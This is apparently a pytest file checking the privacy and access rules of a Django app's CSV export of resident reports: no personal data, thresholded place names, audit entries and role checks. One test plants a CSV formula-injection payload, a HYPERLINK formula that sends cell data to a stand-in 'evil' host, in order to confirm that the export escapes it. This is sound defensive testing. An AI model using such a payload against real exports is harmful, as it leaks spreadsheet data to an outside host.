"""The work list as CSV, probed as an attacker would (ADR 0015).

Someone gets hold of an exported file — or exports one themselves — and
wants the reporter, the address or the text of a report. The file must hold
none of them: no free text, no e-mail address or pseudonym, no address,
entrance, building, coordinates or location label, no time of day, no
colleague's name; the place is only a buurt, street or block that the
publication door publishes as a place (at least the threshold of
dwellings), that the exporting user may see. And only a professional with
the export permission may download it, for their own areas, audited.
"""

from __future__ import annotations

import csv
import io
import re
import shutil

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from tests.web.cityfixture import BUURTEN
from tests.web.test_signals_fixtures import *  # noqa: F403 - fixtures
from tests.web.test_signals_fixtures import PASSWORD, make_professional

from veerkracht.web.audit.models import AuditEntry
from veerkracht.web.signals import export, services
from veerkracht.web.signals.models import Signal, Team

pytestmark = pytest.mark.django_db

TEXT = "Meneer De Vries op nummer 7 schreeuwt elke nacht"
EMAIL = "melder.jansen@example.org"


def _create(category="noise", **loc) -> Signal:
    loc = loc or {"postcode": "9900AA", "huisnummer": 7, "toevoeging": "3"}
    return services.create_signal(
        category=category, location=services.resolve_location(**loc),
        description=TEXT, contact_email=EMAIL,
    ).signal


def _download(client, **query) -> tuple[list[dict], str]:
    r = client.get(reverse("signals:export"), query)
    assert r.status_code == 200, r.status_code
    assert r["Content-Type"].startswith("text/csv")
    assert r["Cache-Control"] == "no-store"
    assert "attachment" in r["Content-Disposition"]
    text = r.content.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text), delimiter=";")), text


@pytest.fixture
def handled(city, professional):
    """Signals with everything an attacker would want in them."""
    portiek = _create()
    house = _create("care_worry", postcode="9900AA", huisnummer=3)
    street = services.create_signal(
        category="neglect",
        location=services.resolve_location(straat="Bosweg", woonplaats="Proefdorp"),
        description=TEXT, contact_email=EMAIL).signal
    services.transition(portiek, "in_behandeling", user=professional,
                        note="Gesproken met mevrouw Pietersen")
    colleague_team = Team.objects.create(
        name="Wijkteam Centrum", organisation=professional.profile.organisation)
    services.assign(portiek, team=colleague_team, assignee=professional,
                    user=professional)
    return {"portiek": portiek, "house": house, "street": street}


def test_the_export_holds_only_the_columns_of_adr_0015(client, professional, handled):
    client.force_login(professional)
    rows, text = _download(client, status="alle")
    assert tuple(rows[0]) == export.COLUMNS
    assert {r["kenmerk"] for r in rows} == {s.reference for s in handled.values()}
    row = next(r for r in rows if r["kenmerk"] == handled["portiek"].reference)
    assert row["status"] == "In behandeling" and row["onderwerp"] == "Geluidsoverlast"
    assert row["team"] == "Wijkteam Centrum" and row["toegewezen"] == "ja"
    assert row["prioriteit"] == "Normaal" and row["bron"] == "Bewoner"
    assert re.fullmatch(r"\d{4}-\d{2}-\d{2}", row["gemeld_op"])
    assert row["gebied_niveau"] == "buurt" and row["gebied"] == BUURTEN[0]


def test_an_export_gives_no_reporter_text_or_address_away(
    client, professional, handled
):
    """Everything that would identify the reporter, the household or the
    address, or that is free text, is absent from the file."""
    client.force_login(professional)
    _rows, text = _download(client, status="alle")
    secrets = [TEXT, "De Vries", "Pietersen", EMAIL, "jansen", "wijkwerker",
               "9900AA", "9900 AA", "Bosweg", "Proefdorp", "user:"]
    for s in handled.values():
        s.refresh_from_db()
        secrets += [s.address_id or "-", s.entrance_id or "-", s.building_id or "-",
                    s.location_label, s.reported_by or "-", f"{s.x:.0f}",
                    f"{s.y:.0f}", timezone.localtime(s.created_at).strftime("%H:%M")]
    for secret in secrets:
        if secret == "-":
            continue
        assert secret.lower() not in text.lower(), secret
    assert not re.search(r"\d{1,2}:\d{2}", text)  # no time of day anywhere


def test_the_place_is_a_published_place_the_user_may_see(client, city):
    """A corporation with two blocks: the block of 12 flats is named, the one
    of 7 is not a place an export may name (under 10 dwellings), and the
    buurt around them is not the corporation's to see."""
    corp = make_professional("corporatie", level="block", code="K-9900AA-7-1",
                             role="corporation", kind="corporation")
    from veerkracht.web.accounts.models import AreaAssignment

    AreaAssignment.objects.create(organisation=corp.profile.organisation,
                                  level="block", code="K-9900AA-1-1")
    big = _create()  # 9900AA 7-3: block K-9900AA-7-1, 12 dwellings
    small = _create(postcode="9900AA", huisnummer=1, toevoeging="2")  # 7 dwellings
    client.force_login(corp)
    rows, text = _download(client)
    got = {r["kenmerk"]: (r["gebied_niveau"], r["gebied"]) for r in rows}
    assert got == {big.reference: ("blok", "K-9900AA-7-1"),
                   small.reference: ("", "")}
    assert BUURTEN[0] not in text and "S-BU" not in text
    assert "E-9900AA" not in text and "B-9900AA" not in text


def test_raising_the_threshold_coarsens_the_export(client, city_dir, settings,
                                                   professional, tmp_path):
    """The export asks the door: with a threshold above every street and
    buurt of the test city, no place is named at all."""
    from veerkracht.analytics.publication import PublicationRules
    from veerkracht.jobs import publish
    from veerkracht.store import open_workspace
    from veerkracht.web.signals.locations import clear_cache

    copy = tmp_path / "ws"
    shutil.copytree(city_dir, copy)
    settings.VEERKRACHT_WORKSPACE = copy
    clear_cache()
    ws = open_workspace(copy)
    signal = _create()
    client.force_login(professional)
    rows, _ = _download(client)
    assert rows[0]["gebied"] == BUURTEN[0]
    publish.set_rules(ws, PublicationRules(min_count=500), "privacy_officer")
    from tests.web.fixtures import _reset_caches

    _reset_caches()
    rows, _ = _download(client)
    assert rows[0]["kenmerk"] == signal.reference
    assert (rows[0]["gebied_niveau"], rows[0]["gebied"]) == ("", "")
    ws.close()


def test_a_cell_never_runs_as_a_formula(client, professional, city):
    signal = _create()
    team = Team.objects.create(name='=HYPERLINK("http://evil/?"&A1)')
    services.assign(signal, team=team, user=professional)
    client.force_login(professional)
    rows, text = _download(client)
    assert rows[0]["team"].startswith("'=")
    assert "\n=" not in text and ";=" not in text


def test_the_export_follows_the_work_list_filter_and_area(
    client, professional, outsider, handled
):
    client.force_login(professional)
    rows, _ = _download(client, category="care_worry", status="alle")
    assert [r["kenmerk"] for r in rows] == [handled["house"].reference]
    rows, _ = _download(client, toewijzing="mij")
    assert [r["kenmerk"] for r in rows] == [handled["portiek"].reference]
    # the other area's professional exports none of them
    client.force_login(outsider)
    rows, _ = _download(client, status="alle")
    assert rows == []


def test_the_export_is_audited_with_its_size(client, professional, handled):
    client.force_login(professional)
    _download(client, status="alle")
    row = AuditEntry.objects.filter(action="signal_export").get()
    assert (row.object_id, row.purpose, row.result) == ("3 meldingen", "all", "ok")
    _download(client, status="<b>x</b>")
    assert AuditEntry.objects.filter(action="signal_export").last().purpose == "open"


def test_only_roles_with_the_export_permission_may_download(client, city):
    from django.contrib.auth import get_user_model

    from veerkracht.web.accounts import roles
    from veerkracht.web.accounts.models import UserProfile

    _create()
    url = reverse("signals:export")
    assert Client().get(url).status_code == 302  # not logged in: the login page
    for role in ("resident", "policy", "privacy", "administrator"):
        user = get_user_model().objects.create_user(f"u-{role}", password=PASSWORD)
        UserProfile.objects.create(user=user, role=role)
        client.force_login(user)
        assert client.get(url).status_code == 403, role
    assert AuditEntry.objects.filter(result="refused").exists()
    assert {r for r, perms in roles.ROLE_PERMISSIONS.items()
            if "export_signals" in perms} == {roles.FRONTLINE, roles.CORPORATION}
    assert "export_signals" in roles.DATA_PERMISSIONS  # granting it needs four eyes


def test_the_link_is_offered_with_the_filter(client, professional, handled):
    client.force_login(professional)
    page = client.get(reverse("signals:worklist"),
                      {"category": "noise", "toewijzing": "mij"}).content.decode()
    assert 'href="/meldingen/werkbak/export.csv?status=open&amp;category=noise' in page
